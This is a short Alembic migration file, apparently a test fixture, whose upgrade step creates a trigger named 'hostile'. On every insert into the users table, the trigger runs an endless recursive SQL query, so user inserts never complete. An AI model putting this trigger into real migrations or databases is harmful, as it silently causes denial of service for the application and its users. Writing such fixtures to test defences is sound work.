"""A trigger that counts for ever whenever a user is stored, by whomever.

Revision ID: 0004
Revises: 0003
"""

from alembic import op

revision = "0004"
down_revision = "0003"


def upgrade() -> None:
    op.execute(
        "CREATE TRIGGER hostile AFTER INSERT ON users BEGIN"
        " UPDATE users SET name = (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
        " SELECT count(*) FROM n); END"
    )


def downgrade() -> None:
    op.execute("DROP TRIGGER hostile")
